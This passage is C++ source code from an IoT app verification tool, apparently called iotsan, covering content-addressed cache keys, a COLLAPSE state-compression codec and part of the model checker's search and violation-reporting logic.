  return store == checker::StoreKind::kBitstate ? "bitstate" : "exhaustive";
}

std::string Hex(std::uint64_t value) {
  char buf[20];
  std::snprintf(buf, sizeof(buf), "%016llx",
                static_cast<unsigned long long>(value));
  return buf;
}

}  // namespace

std::string GroupKey::Hex() const { return cache::Hex(digest); }

std::uint64_t PropertySetFingerprint(
    const std::vector<props::Property>& properties) {
  hash::Fnv1a64Stream stream;
  stream.Mix(static_cast<std::uint64_t>(properties.size()));
  for (const props::Property& p : properties) {
    stream.Mix(p.id);
    stream.Mix(std::string(checker::PropertyKindName(p.kind)));
    stream.Mix(p.category);
    stream.Mix(p.description);
    stream.Mix(p.expression);
  }
  return stream.digest();
}

std::string GroupKeyText(const GroupKeyInputs& inputs) {
  json::Object doc;
  doc["schema"] = "iotsan.cache/1";
  doc["version"] = inputs.version.empty()
                       ? build::GetBuildInfo().version
                       : inputs.version;
  // The config slice, verbatim: DeploymentToJson is canonical
  // (std::map-ordered keys), so identical slices dump identically.
  doc["deployment"] = config::DeploymentToJson(*inputs.deployment);
  // App sources fold to length+FNV fingerprints — the Translator's
  // input is the source text, so any source edit changes the key.
  json::Array sources;
  for (const auto& [app, source] : inputs.sources) {
    json::Object entry;
    entry["app"] = app;
    entry["bytes"] = static_cast<std::int64_t>(source.size());
    entry["fnv"] = Hex(hash::Fnv1a64(source));
    sources.push_back(std::move(entry));
  }
  doc["sources"] = std::move(sources);
  json::Object properties;
  properties["count"] =
      static_cast<std::int64_t>(inputs.properties->size());
  properties["fnv"] = Hex(PropertySetFingerprint(*inputs.properties));
  doc["properties"] = std::move(properties);
  // CheckOptions that influence the result.  `jobs`, `pool`, and the
  // progress callback are deliberately absent: output is canonicalized
  // across lane counts, so warm runs hit regardless of --jobs.
  const checker::CheckOptions& check = *inputs.check;
  json::Object check_obj;
  check_obj["max_events"] = check.max_events;
  check_obj["scheduling"] = SchedulingName(check.scheduling);
  check_obj["model_failures"] = check.model_failures;
  check_obj["store"] = StoreName(check.store);
  check_obj["bitstate_bits"] = static_cast<std::int64_t>(
      check.store == checker::StoreKind::kBitstate ? check.bitstate_bits : 0);
  check_obj["include_depth_in_state"] = check.include_depth_in_state;
  check_obj["stop_at_first_violation"] = check.stop_at_first_violation;
  check_obj["max_states"] = static_cast<std::int64_t>(check.max_states);
  check_obj["time_budget_seconds"] = check.time_budget_seconds;
  check_obj["reverify_bitstate"] = check.reverify_bitstate;
  // Cluster sharding options change the result, so they must key the
  // cache — but only when active, so historical keys stay stable.
  if (check.branch_modulus > 1) {
    check_obj["branch_modulus"] =
        static_cast<std::int64_t>(check.branch_modulus);
    check_obj["branch_residue"] =
        static_cast<std::int64_t>(check.branch_residue);
  }
  if (check.store == checker::StoreKind::kBitstate &&
      check.bitstate_seed != 0) {
    check_obj["bitstate_seed"] = Hex(check.bitstate_seed);
  }
  doc["check"] = std::move(check_obj);
  const model::ModelOptions& model = *inputs.model;
  json::Object model_obj;
  model_obj["all_sensor_events"] = model.all_sensor_events;
  model_obj["user_mode_events"] = model.user_mode_events;
  model_obj["dynamic_discovery"] = model.dynamic_discovery;
  doc["model"] = std::move(model_obj);
  return json::Value(std::move(doc)).Dump(0);
}

GroupKey MakeGroupKey(const GroupKeyInputs& inputs) {
  GroupKey key;
  key.text = GroupKeyText(inputs);
  key.digest = hash::Fnv1a64(key.text);
  return key;
}

}  // namespace iotsan::cache
