// Content-addressed cache keys for per-group verification results.
//
// A related-set group's verification outcome is a pure function of
//   * the analyzed apps' sources (what the Translator would produce),
//   * the configuration slice the group touches — the sub-deployment the
//     sanitizer builds for the group: all devices (role-bound properties
//     see every device), the group's app instances with their input
//     bindings, the location modes, contact phone, and network policy,
//   * the active safety-property set (built-ins + user-defined),
//   * the CheckOptions that influence the result (NOT `jobs`/`pool`/
//     `on_progress`: the search canonicalizes output across lane counts),
//   * the model-generation options, and
//   * the iotsan version (a new build may change semantics).
//
// MakeGroupKey canonicalizes all of that into a human-readable key
// document (compact JSON, std::map-ordered keys) and hashes it with the
// util/hash FNV-1a infrastructure.  The 64-bit digest addresses the
// entry (file name, LRU slot); the full document rides along inside the
// entry so a digest collision is detected by text comparison and
// degrades to a miss instead of serving a wrong result.
#pragma once

#include <cstdint>
#include <string>
#include <utility>
#include <vector>

#include "checker/checker.hpp"
#include "config/deployment.hpp"
#include "model/system_model.hpp"
#include "props/property.hpp"

namespace iotsan::cache {

/// Everything a group's verification result depends on.
struct GroupKeyInputs {
  /// The group's sub-deployment: all devices + only this group's app
  /// instances (the config slice the group touches).
  const config::Deployment* deployment = nullptr;
  /// (app definition name, SmartScript source) per group app instance,
  /// in sub-deployment order.
  std::vector<std::pair<std::string, std::string>> sources;
  /// The full active property set (built-ins + extras), in order.
  const std::vector<props::Property>* properties = nullptr;
  const checker::CheckOptions* check = nullptr;
  const model::ModelOptions* model = nullptr;
  /// Tool version baked into the key; empty = util/build_info version.
  std::string version;
};

struct GroupKey {
  /// FNV-1a digest of `text` — the content address.
  std::uint64_t digest = 0;
  /// The canonical key document (compact JSON).
  std::string text;

  /// The digest as 16 lowercase hex digits (entry file stem).
  std::string Hex() const;
};

/// Canonical key document for `inputs` (compact JSON dump).  App sources
/// and the property set are folded to FNV fingerprints to keep entries
/// small; the deployment slice is embedded verbatim.
std::string GroupKeyText(const GroupKeyInputs& inputs);

/// Builds the content-addressed key: digest = Fnv1a64(GroupKeyText).
GroupKey MakeGroupKey(const GroupKeyInputs& inputs);

/// FNV fingerprint of the active property set (id, kind, category,
/// description, expression per property, length-delimited).  Exposed for
/// the golden-value tests.
std::uint64_t PropertySetFingerprint(
    const std::vector<props::Property>& properties);

}  // namespace iotsan::cache
