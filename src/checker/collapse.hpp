// COLLAPSE state compression (Spin's -DCOLLAPSE, paper §2.3).
//
// The visited-state stores key on the full SystemState serialization —
// dozens to hundreds of bytes per state, most of them identical between
// neighbouring states (one dispatch rarely changes more than one
// device).  CollapseCodec replaces that key with a component-wise
// interned tuple:
//
//   * each device's sub-vector is interned in a per-device pool and
//     bit-packed at the width its statically-bounded component count
//     needs (2 * prod(domain^2) distinct sub-vectors at most);
//   * the mode and the pool indices of each `state`-using app's map and
//     of the timer list follow as LEB128 varints.
//
// The encoding is injective per model: the field layout is fixed, every
// pool is an exact byte-vector <-> index bijection, and apps whose code
// never mentions `state` always carry an empty map, so skipping them
// loses nothing.  Two states collide on their encoded keys iff their
// full serializations collide — proven by checker tests.
//
// Thread-safe: the pools shard like ExhaustiveStore, so parallel search
// workers encode concurrently.  Indices are only stable within one run,
// which is all a visited set compares.
#pragma once

#include <cstdint>
#include <memory>
#include <vector>

#include "checker/state_store.hpp"
#include "model/state.hpp"
#include "model/system_model.hpp"

namespace iotsan::checker {

class CollapseCodec {
 public:
  /// `shard_count` shards per intern pool (match the store's sharding
  /// when workers encode concurrently).
  explicit CollapseCodec(const model::SystemModel& model,
                         unsigned shard_count = 1);

  /// Appends the compressed store key of `state` to `out`.  `scratch` is
  /// a caller-owned reusable buffer (per worker) so the hot loop does not
  /// allocate.
  void Encode(const model::SystemState& state, std::vector<std::uint8_t>& out,
              std::vector<std::uint8_t>& scratch) const;

  // Aggregated pool statistics (for the compress.* telemetry gauges and
  // bench BENCH_STATS).
  std::uint64_t pool_entries() const;
  std::uint64_t pool_bytes() const;
  std::uint64_t lookups() const;
  std::uint64_t hits() const;
  std::uint64_t states_encoded() const {
    return states_encoded_.load(std::memory_order_relaxed);
  }

 private:
  const model::SystemModel& model_;
  /// One pool per device; index bit-width from the device's static
  /// component bound.
  std::vector<std::unique_ptr<InternPool>> device_pools_;
  std::vector<unsigned> device_index_bits_;
  /// Apps whose handlers can touch the persistent `state` map; all other
  /// apps' maps are provably always empty and are skipped.
  std::vector<int> state_apps_;
  std::unique_ptr<InternPool> app_state_pool_;
  std::unique_ptr<InternPool> timer_pool_;
  mutable std::atomic<std::uint64_t> states_encoded_{0};
};

}  // namespace iotsan::checker
