#include "checker/collapse.hpp"

#include <algorithm>
#include <bit>

namespace iotsan::checker {

namespace {

void PutVarint(std::vector<std::uint8_t>& out, std::uint64_t v) {
  while (v >= 0x80) {
    out.push_back(static_cast<std::uint8_t>(v) | 0x80);
    v >>= 7;
  }
  out.push_back(static_cast<std::uint8_t>(v));
}

/// Accumulates bit-packed fields, flushing whole bytes; ByteAlign pads
/// the tail with zero bits so the following varints stay byte-aligned.
class BitPacker {
 public:
  explicit BitPacker(std::vector<std::uint8_t>& out) : out_(out) {}

  void Put(std::uint64_t value, unsigned bits) {
    acc_ |= value << used_;
    used_ += bits;
    while (used_ >= 8) {
      out_.push_back(static_cast<std::uint8_t>(acc_));
      acc_ >>= 8;
      used_ -= 8;
    }
  }

  void ByteAlign() {
    if (used_ > 0) {
      out_.push_back(static_cast<std::uint8_t>(acc_));
      acc_ = 0;
      used_ = 0;
    }
  }

 private:
  std::vector<std::uint8_t>& out_;
  std::uint64_t acc_ = 0;
  unsigned used_ = 0;
};

}  // namespace

CollapseCodec::CollapseCodec(const model::SystemModel& model,
                             unsigned shard_count)
    : model_(model) {
  device_pools_.reserve(model.devices().size());
  device_index_bits_.reserve(model.devices().size());
  for (const devices::Device& device : model.devices()) {
    // Distinct sub-vectors: online flag x each attribute's (cyber,
    // physical) value pair — 2 * prod(domain^2), saturating at 2^32.
    std::uint64_t bound = 2;
    for (const auto* attr : device.attributes()) {
      const std::uint64_t domain =
          static_cast<std::uint64_t>(std::max(attr->domain_size(), 1));
      bound *= domain * domain;
      if (bound >= (std::uint64_t{1} << 32)) {
        bound = std::uint64_t{1} << 32;
        break;
      }
    }
    device_index_bits_.push_back(
        std::max(1u, static_cast<unsigned>(std::bit_width(bound - 1))));
    device_pools_.push_back(std::make_unique<InternPool>(shard_count));
  }
  for (int a = 0; a < static_cast<int>(model.apps().size()); ++a) {
    bool touches = false;
    for (const ir::HandlerInfo& handler :
         model.apps()[static_cast<std::size_t>(a)].analysis.handlers) {
      touches |= handler.touches_app_state;
    }
    if (touches) state_apps_.push_back(a);
  }
  app_state_pool_ = std::make_unique<InternPool>(shard_count);
  timer_pool_ = std::make_unique<InternPool>(shard_count);
}

void CollapseCodec::Encode(const model::SystemState& state,
                           std::vector<std::uint8_t>& out,
                           std::vector<std::uint8_t>& scratch) const {
  states_encoded_.fetch_add(1, std::memory_order_relaxed);
  BitPacker packer(out);
  for (int d = 0; d < static_cast<int>(state.devices.size()); ++d) {
    scratch.clear();
    state.SerializeDeviceTo(d, scratch);
    const std::uint32_t index =
        device_pools_[static_cast<std::size_t>(d)]->Intern(scratch);
    packer.Put(index, device_index_bits_[static_cast<std::size_t>(d)]);
  }
  packer.ByteAlign();
  PutVarint(out, static_cast<std::uint16_t>(state.mode));
  for (int a : state_apps_) {
    scratch.clear();
    state.SerializeAppStateTo(a, scratch);
    PutVarint(out, app_state_pool_->Intern(scratch));
  }
  scratch.clear();
  state.SerializeTimersTo(scratch);
  PutVarint(out, timer_pool_->Intern(scratch));
}

std::uint64_t CollapseCodec::pool_entries() const {
  std::uint64_t total = app_state_pool_->size() + timer_pool_->size();
  for (const auto& pool : device_pools_) total += pool->size();
  return total;
}

std::uint64_t CollapseCodec::pool_bytes() const {
  std::uint64_t total = app_state_pool_->memory_bytes() +
                        timer_pool_->memory_bytes();
  for (const auto& pool : device_pools_) total += pool->memory_bytes();
  return total;
}

std::uint64_t CollapseCodec::lookups() const {
  std::uint64_t total = app_state_pool_->lookups() + timer_pool_->lookups();
  for (const auto& pool : device_pools_) total += pool->lookups();
  return total;
}

std::uint64_t CollapseCodec::hits() const {
  std::uint64_t total = app_state_pool_->hits() + timer_pool_->hits();
  for (const auto& pool : device_pools_) total += pool->hits();
  return total;
}

}  // namespace iotsan::checker
