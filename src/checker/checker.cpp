#include "checker/checker.hpp"

#include <algorithm>
#include <atomic>
#include <cstdio>
#include <memory>
#include <mutex>
#include <set>

#include "checker/collapse.hpp"
#include "checker/state_store.hpp"
#include "model/footprint.hpp"
#include "model/state_view.hpp"
#include "props/eval.hpp"
#include "util/build_info.hpp"
#include "util/error.hpp"
#include "util/log.hpp"
#include "util/thread_pool.hpp"

namespace iotsan::checker {

bool CheckResult::HasViolation(const std::string& property_id) const {
  return Find(property_id) != nullptr;
}

const Violation* CheckResult::Find(const std::string& property_id) const {
  for (const Violation& v : violations) {
    if (v.property_id == property_id) return &v;
  }
  return nullptr;
}

telemetry::ProgressSnapshot CheckResult::Progress() const {
  telemetry::ProgressSnapshot snapshot;
  snapshot.jobs = jobs;
  snapshot.branches_total = parallel_branches;
  snapshot.branches_done = parallel_branches;
  snapshot.worker_states_explored = worker_states_explored;
  snapshot.states_explored = states_explored;
  snapshot.states_matched = states_matched;
  snapshot.transitions = transitions;
  snapshot.cascade_drains = cascade_drains;
  snapshot.elapsed_seconds = seconds;
  snapshot.states_per_second =
      seconds > 0 ? static_cast<double>(states_explored) / seconds : 0;
  const double considered =
      static_cast<double>(states_explored + states_matched);
  snapshot.pruning_ratio =
      considered > 0 ? static_cast<double>(states_matched) / considered : 0;
  snapshot.store_fill_ratio = store_fill_ratio;
  snapshot.depth_histogram = depth_histogram;
  if (auto* t = telemetry::Active()) {
    snapshot.cache_hits = t->cache.hits;
    snapshot.cache_misses = t->cache.misses;
  }
  return snapshot;
}

std::string_view PropertyKindName(props::PropertyKind kind) {
  switch (kind) {
    case props::PropertyKind::kInvariant: return "invariant";
    case props::PropertyKind::kNoConflict: return "no_conflict";
    case props::PropertyKind::kNoRepeat: return "no_repeat";
    case props::PropertyKind::kNoNetworkLeak: return "no_network_leak";
    case props::PropertyKind::kSmsRecipient: return "sms_recipient";
    case props::PropertyKind::kNoSensitiveCmd: return "no_sensitive_cmd";
    case props::PropertyKind::kNoFakeEvent: return "no_fake_event";
    case props::PropertyKind::kRobustness: return "robustness";
  }
  return "invariant";
}

props::PropertyKind PropertyKindFromName(std::string_view name) {
  for (props::PropertyKind kind :
       {props::PropertyKind::kInvariant, props::PropertyKind::kNoConflict,
        props::PropertyKind::kNoRepeat, props::PropertyKind::kNoNetworkLeak,
        props::PropertyKind::kSmsRecipient,
        props::PropertyKind::kNoSensitiveCmd,
        props::PropertyKind::kNoFakeEvent,
        props::PropertyKind::kRobustness}) {
    if (name == PropertyKindName(kind)) return kind;
  }
  return props::PropertyKind::kInvariant;
}

json::Value ViolationToJson(const Violation& violation) {
  json::Object obj;
  obj["property_id"] = violation.property_id;
  obj["category"] = violation.category;
  obj["description"] = violation.description;
  obj["kind"] = std::string(PropertyKindName(violation.kind));
  json::Array steps;
  for (const TraceStep& step : violation.steps) steps.push_back(ToJson(step));
  obj["steps"] = std::move(steps);
  obj["detail"] = violation.detail;
  json::Array apps;
  for (const std::string& app : violation.apps) apps.push_back(app);
  obj["apps"] = std::move(apps);
  json::Array model_apps;
  for (const std::string& app : violation.model_apps) model_apps.push_back(app);
  obj["model_apps"] = std::move(model_apps);
  obj["failure"] = violation.failure;
  obj["depth"] = violation.depth;
  obj["occurrences"] = static_cast<std::int64_t>(violation.occurrences);
  obj["replay_verified"] = violation.replay_verified;
  return obj;
}

Violation ViolationFromJson(const json::Value& value) {
  Violation violation;
  violation.property_id = value.GetString("property_id");
  violation.category = value.GetString("category");
  violation.description = value.GetString("description");
  violation.kind = PropertyKindFromName(value.GetString("kind", "invariant"));
  if (value.Has("steps")) {
    for (const json::Value& step : value.At("steps").AsArray()) {
      violation.steps.push_back(TraceStepFromJson(step));
    }
  }
  violation.detail = value.GetString("detail");
  if (value.Has("apps")) {
    for (const json::Value& app : value.At("apps").AsArray()) {
      violation.apps.push_back(app.AsString());
    }
  }
  if (value.Has("model_apps")) {
    for (const json::Value& app : value.At("model_apps").AsArray()) {
      violation.model_apps.push_back(app.AsString());
    }
  }
  violation.failure = value.GetString("failure");
  violation.depth = static_cast<int>(value.GetNumber("depth"));
  violation.occurrences =
      static_cast<std::uint64_t>(value.GetNumber("occurrences", 1));
  violation.replay_verified = value.GetBool("replay_verified");
  return violation;
}

namespace {

/// Copies the run-so-far analysis-cache tallies into a progress
/// snapshot (both 0 when telemetry or the cache is off).
void FillCacheProgress(telemetry::ProgressSnapshot& snapshot) {
  if (auto* t = telemetry::Active()) {
    snapshot.cache_hits = t->cache.hits;
    snapshot.cache_misses = t->cache.misses;
  }
}

using Clock = std::chrono::steady_clock;

// The once-per-run latch for the bitstate saturation warning: re-armed
// by ResetSaturationWarning() (the CLI does so per command), so a run
// checking dozens of related sets warns once instead of once per check.
// An atomic_flag because parallel workers (or parallel related-set
// checks) may finish saturated checks concurrently: exactly one of them
// wins the test_and_set and prints.
std::atomic_flag g_saturation_warned = ATOMIC_FLAG_INIT;

/// One step of a guided (replay) search: the recorded external event,
/// failure scenario, and interleaving choice, resolved against a
/// concrete model.
struct GuideStep {
  model::ExternalEvent event;
  model::FailureScenario failure;
  int outcome_index = 0;
};

/// Resolves an artifact's name-based event coordinates to model indices.
/// Throws iotsan::Error when the model does not match the recording.
std::vector<GuideStep> ResolveSteps(const model::SystemModel& model,
                                    const std::vector<TraceStep>& steps) {
  std::vector<GuideStep> guide;
  for (const TraceStep& step : steps) {
    GuideStep g;
    g.outcome_index = step.outcome_index;
    g.failure.sensor_offline = step.sensor_offline;
    g.failure.actuator_offline = step.actuator_offline;
    g.failure.comm_fail = step.comm_fail;
    if (step.kind == "sensor") {
      g.event.kind = model::ExternalEventSpec::Kind::kSensor;
      g.event.device = model.DeviceIndex(step.device);
      if (g.event.device < 0) {
        throw Error("replay: device '" + step.device +
                    "' is not in the model");
      }
      const devices::Device& device = model.devices()[g.event.device];
      g.event.attribute = device.AttributeIndex(step.attribute);
      if (g.event.attribute < 0) {
        throw Error("replay: device '" + step.device +
                    "' has no attribute '" + step.attribute + "'");
      }
      const devices::AttributeSpec& attr =
          *device.attributes()[g.event.attribute];
      g.event.value = -1;
      for (int v = 0; v < attr.domain_size(); ++v) {
        if (attr.ValueName(v) == step.value) {
          g.event.value = v;
          break;
        }
      }
      if (g.event.value < 0) {
        throw Error("replay: attribute '" + step.attribute +
                    "' has no value '" + step.value + "'");
      }
    } else if (step.kind == "app_touch") {
      g.event.kind = model::ExternalEventSpec::Kind::kAppTouch;
      g.event.app = -1;
      for (std::size_t a = 0; a < model.apps().size(); ++a) {
        if (model.apps()[a].config.label == step.app) {
          g.event.app = static_cast<int>(a);
          break;
        }
      }
      if (g.event.app < 0) {
        throw Error("replay: app '" + step.app + "' is not in the model");
      }
    } else if (step.kind == "timer") {
      g.event.kind = model::ExternalEventSpec::Kind::kTimerTick;
    } else if (step.kind == "user_mode") {
      g.event.kind = model::ExternalEventSpec::Kind::kUserModeChange;
      g.event.value = -1;
      for (std::size_t m = 0; m < model.modes().size(); ++m) {
        if (model.modes()[m] == step.value) {
          g.event.value = static_cast<int>(m);
          break;
        }
      }
      if (g.event.value < 0) {
        throw Error("replay: mode '" + step.value + "' is not in the model");
      }
    } else {
      throw Error("replay: unknown event kind '" + step.kind + "'");
    }
    guide.push_back(std::move(g));
  }
  return guide;
}

// ---- Canonical counter-example selection -------------------------------------
//
// A property can fire on many edges of the search.  Which edge a DFS
// reaches first depends on exploration order, and under parallel search
// exploration order depends on scheduling — so "first found" would make
// reports vary run to run.  Instead every path (serial and parallel)
// keeps the *minimal* counter-example: fewest external events, ties
// broken by the identifying event coordinates.  Only the coordinates
// that determine the re-execution (kind/device/attribute/value/app,
// failure flags, interleaving index) participate: they fix the entire
// step content, so comparing the rest would be redundant.

int CompareStepIdentity(const TraceStep& a, const TraceStep& b) {
  if (int c = a.kind.compare(b.kind)) return c;
  if (int c = a.device.compare(b.device)) return c;
  if (int c = a.attribute.compare(b.attribute)) return c;
  if (int c = a.value.compare(b.value)) return c;
  if (int c = a.app.compare(b.app)) return c;
  if (a.sensor_offline != b.sensor_offline) return a.sensor_offline ? 1 : -1;
  if (a.actuator_offline != b.actuator_offline) {
    return a.actuator_offline ? 1 : -1;
  }
  if (a.comm_fail != b.comm_fail) return a.comm_fail ? 1 : -1;
  if (a.outcome_index != b.outcome_index) {
    return a.outcome_index < b.outcome_index ? -1 : 1;
  }
  return 0;
}

int ComparePaths(const std::vector<TraceStep>& a, const std::string& a_detail,
                 const std::vector<TraceStep>& b,
                 const std::string& b_detail) {
  if (a.size() != b.size()) return a.size() < b.size() ? -1 : 1;
  for (std::size_t i = 0; i < a.size(); ++i) {
    if (int c = CompareStepIdentity(a[i], b[i])) return c;
  }
  return a_detail.compare(b_detail);
}

}  // namespace

// Public (checker.hpp): the cluster coordinator merges branch-shard and
// swarm-lane results from remote workers through these, so distributed
// merges canonicalize exactly like the in-process parallel path.
void MergeViolationInto(Violation& existing, Violation v) {
  existing.occurrences += v.occurrences;
  for (std::string& app : v.apps) {
    bool known = false;
    for (const std::string& have : existing.apps) {
      known = known || have == app;
    }
    if (!known) existing.apps.push_back(std::move(app));
  }
  if (ComparePaths(v.steps, v.detail, existing.steps, existing.detail) < 0) {
    existing.steps = std::move(v.steps);
    existing.detail = std::move(v.detail);
    existing.depth = v.depth;
    existing.failure = std::move(v.failure);
  }
}

void CanonicalizeViolations(std::vector<Violation>& violations) {
  for (Violation& v : violations) std::sort(v.apps.begin(), v.apps.end());
  std::sort(violations.begin(), violations.end(),
            [](const Violation& a, const Violation& b) {
              return a.property_id < b.property_id;
            });
}

namespace {

// ---- Run-finalization helpers (shared by serial and parallel paths) ----------

void NoteStoreDiagnostics(CheckResult& result, const StateStore& store,
                          const CollapseCodec* codec) {
  result.store_entries = store.size();
  result.store_memory_bytes = store.memory_bytes();
  result.store_fill_ratio = store.FillRatio();
  result.est_omission_probability = store.EstOmissionProbability();
  if (codec != nullptr) {
    result.compress_states_encoded = codec->states_encoded();
    result.compress_pool_entries = codec->pool_entries();
    result.compress_pool_bytes = codec->pool_bytes();
    result.compress_lookups = codec->lookups();
    result.compress_hits = codec->hits();
  }
  if (result.store_entries > 0) {
    result.store_bytes_per_state =
        static_cast<double>(result.store_memory_bytes +
                            result.compress_pool_bytes) /
        static_cast<double>(result.store_entries);
  }
}

void WarnIfSaturated(const CheckResult& result, const CheckOptions& options) {
  if (options.store != StoreKind::kBitstate ||
      result.store_fill_ratio <= 0.5) {
    return;
  }
  if (auto* t = telemetry::Active()) ++t->store.saturation_warnings;
  // Spin's rule of thumb: above 50% occupancy BITSTATE coverage is
  // unreliable — a saturated bit field silently under-reports
  // violations.  Emitted once per run (ResetSaturationWarning re-arms),
  // mirrored per check in store.saturation_warnings.
  if (!g_saturation_warned.test_and_set()) {
    util::LogWarn(
        "checker",
        "bitstate store saturated; coverage is unreliable, increase "
        "bitstate_bits",
        {{"fill_ratio", result.store_fill_ratio},
         {"est_omission_probability", result.est_omission_probability},
         {"store_bytes", result.store_memory_bytes}});
  }
}

void TickFinishTelemetry(const CheckResult& result,
                         const CheckOptions& options) {
  auto* t = telemetry::Active();
  if (t == nullptr) return;
  t->search.states_explored += result.states_explored;
  t->search.states_matched += result.states_matched;
  t->search.transitions += result.transitions;
  t->search.cascade_drains += result.cascade_drains;
  t->search.violations_recorded += result.violations.size();
  if (!result.completed) ++t->search.budget_stops;
  ++t->pipeline.checks_run;
  t->store.entries = result.store_entries;
  t->store.memory_bytes = result.store_memory_bytes;
  t->store.fill_permille =
      static_cast<std::uint64_t>(result.store_fill_ratio * 1000.0);
  t->store.omission_ppm =
      static_cast<std::uint64_t>(result.est_omission_probability * 1e6);
  t->store.bytes_per_state =
      static_cast<std::uint64_t>(result.store_bytes_per_state);
  if (options.state_compression) {
    t->compress.states_encoded += result.compress_states_encoded;
    t->compress.intern_lookups += result.compress_lookups;
    t->compress.intern_hits += result.compress_hits;
    t->compress.pool_entries = result.compress_pool_entries;
    t->compress.pool_bytes = result.compress_pool_bytes;
  }
  // Memory accounting: the store footprint lands in the gauge for its
  // kind, and the OS high-water mark is refreshed while it is still
  // inflated by the live store (sampling later would under-report).
  if (options.store == StoreKind::kBitstate) {
    t->memory.store_bitstate_bytes = result.store_memory_bytes;
  } else {
    t->memory.store_exhaustive_bytes = result.store_memory_bytes;
  }
  telemetry::SamplePeakRss(*t);
}

// ---- Shared state of a parallel search ---------------------------------------

/// Crossbar between the branch workers of one parallel run: the shared
/// visited-state store, global budget/stop flags, and the live totals
/// that budgets and progress reports read.  Everything per-branch (path
/// context, violations, exact counters) stays worker-local in each
/// branch's CheckResult and is merged deterministically afterwards.
struct SharedSearch {
  SharedSearch(std::size_t depth_levels, unsigned lanes)
      : depth_histogram(depth_levels), worker_states(lanes) {}

  StateStore* store = nullptr;
  util::ThreadPool* pool = nullptr;
  /// Shared POR oracle / COLLAPSE codec (null when the feature is off);
  /// both are thread-safe, so every branch worker uses the same instance.
  const model::FootprintIndex* footprints = nullptr;
  CollapseCodec* codec = nullptr;
  Clock::time_point start;
  std::atomic<bool> stop{false};
  std::atomic<std::uint64_t> states_explored{0};
  std::atomic<std::uint64_t> states_matched{0};
  std::atomic<std::uint64_t> transitions{0};
  std::atomic<std::uint64_t> cascade_drains{0};
  std::vector<std::atomic<std::uint64_t>> depth_histogram;
  std::vector<std::atomic<std::uint64_t>> worker_states;
  std::uint64_t branches_total = 0;
  std::atomic<std::uint64_t> branches_done{0};
  // Serializes on_progress invocations (the callback is user code).
  std::mutex progress_mutex;
};

class Search {
 public:
  /// `guide` switches the search into guided-replay mode: the recorded
  /// path is followed step by step (no event enumeration, no store
  /// pruning), re-running the monitors and invariants along the way —
  /// Spin's guided simulation of a .trail file.  `shared` switches it
  /// into parallel-worker mode: the store, clock, and budgets come from
  /// the shared run; drive it with RunBranch instead of Run.
  Search(const model::SystemModel& model, const CheckOptions& options,
         const std::vector<GuideStep>* guide = nullptr,
         SharedSearch* shared = nullptr)
      : model_(model),
        options_(options),
        owned_footprints_(MakeFootprints(model, options, shared)),
        footprints_(shared != nullptr ? shared->footprints
                                      : owned_footprints_.get()),
        engine_(model, footprints_),
        guide_(guide),
        shared_(shared) {
    if (shared_ != nullptr) {
      store_ = shared_->store;
      codec_ = shared_->codec;
      start_ = shared_->start;
      lane_ = shared_->pool->CurrentLane();
    } else {
      if (options.store == StoreKind::kExhaustive) {
        owned_store_ = std::make_unique<ExhaustiveStore>();
      } else {
        owned_store_ = std::make_unique<BitstateStore>(options.bitstate_bits,
                                                       3,
                                                       options.bitstate_seed);
      }
      store_ = owned_store_.get();
      if (options.state_compression) {
        owned_codec_ = std::make_unique<CollapseCodec>(model);
        codec_ = owned_codec_.get();
      }
    }
    result_.depth_histogram.assign(
        static_cast<std::size_t>(std::max(options.max_events, 0)) + 1, 0);
    cancel_ = [this] { return BudgetExceeded(); };
  }

  CheckResult Run() {
    telemetry::ScopedSpan span(guide_ != nullptr ? "replay" : "check");
    if (!options_.request_id.empty()) {
      span.Attr("request_id", options_.request_id);
    }
    start_ = Clock::now();
    model::SystemState initial = model_.MakeInitialState();
    EncodeStateKey(initial);
    store_->TestAndInsert(key_scratch_);
    Explore(initial, 0);
    result_.seconds =
        std::chrono::duration<double>(Clock::now() - start_).count();
    FinishDiagnostics();
    span.Attr("states", result_.states_explored);
    span.Attr("transitions", result_.transitions);
    span.Attr("completed", std::int64_t{result_.completed ? 1 : 0});
    CanonicalizeViolations(result_.violations);
    return std::move(result_);
  }

  /// Parallel-worker entry: explores one root (event × failure) branch
  /// against the shared store.  The initial state is accounted by the
  /// driver, so this starts directly with the branch's cascade.
  CheckResult RunBranch(const model::SystemState& initial,
                        const model::ExternalEvent& event,
                        const model::FailureScenario& failure) {
    if (!BudgetExceeded()) {
      std::vector<model::StepOutcome> outcomes = engine_.Apply(
          initial, event, failure, options_.scheduling, cancel_);
      result_.cascade_drains += outcomes.size();
      shared_->cascade_drains.fetch_add(outcomes.size(),
                                        std::memory_order_relaxed);
      for (std::size_t i = 0; i < outcomes.size(); ++i) {
        if (BudgetExceeded()) break;
        ProcessOutcome(initial, event, failure, outcomes[i], 0,
                       static_cast<int>(i));
      }
    }
    shared_->branches_done.fetch_add(1, std::memory_order_relaxed);
    return std::move(result_);
  }

 private:
  const model::SystemModel& model_;
  const CheckOptions& options_;
  // Declared before engine_: the engine captures the footprint pointer at
  // construction (member-init order).
  std::unique_ptr<model::FootprintIndex> owned_footprints_;
  const model::FootprintIndex* footprints_ = nullptr;
  model::CascadeEngine engine_;
  const std::vector<GuideStep>* guide_;
  SharedSearch* shared_;
  std::unique_ptr<StateStore> owned_store_;
  StateStore* store_ = nullptr;  // owned_store_ or the shared run's store
  std::unique_ptr<CollapseCodec> owned_codec_;
  const CollapseCodec* codec_ = nullptr;  // null = plain serialization keys
  // Per-worker scratch buffers: store keys are built in place so the hot
  // loop performs no per-state allocations once capacity settles.
  std::vector<std::uint8_t> key_scratch_;
  std::vector<std::uint8_t> component_scratch_;
  unsigned lane_ = 0;  // pool lane, for per-worker accounting
  CheckResult result_;
  Clock::time_point start_;
  bool stopped_ = false;
  // Handed to the cascade engine so budgets are honored between drains.
  model::CancelFn cancel_;

  // Current DFS path context: structured trace steps, and causality data
  // for violation charging — which app actuated which device, and which
  // apps changed the location mode, along the path.
  std::vector<TraceStep> path_steps_;
  std::vector<std::pair<int, int>> path_actuations_;
  std::vector<int> path_mode_setters_;

  bool BudgetExceeded() {
    if (stopped_) return true;
    if (options_.interrupt != nullptr &&
        options_.interrupt->load(std::memory_order_relaxed)) {
      result_.completed = false;
      stopped_ = true;
      if (shared_ != nullptr) {
        shared_->stop.store(true, std::memory_order_relaxed);
      }
      return true;
    }
    if (shared_ != nullptr) {
      // Budgets are global across workers: compare the shared totals and
      // broadcast the stop so every branch winds down together.
      if (shared_->stop.load(std::memory_order_relaxed)) {
        result_.completed = false;
        stopped_ = true;
        return true;
      }
      if (options_.max_states != 0 &&
          shared_->states_explored.load(std::memory_order_relaxed) >=
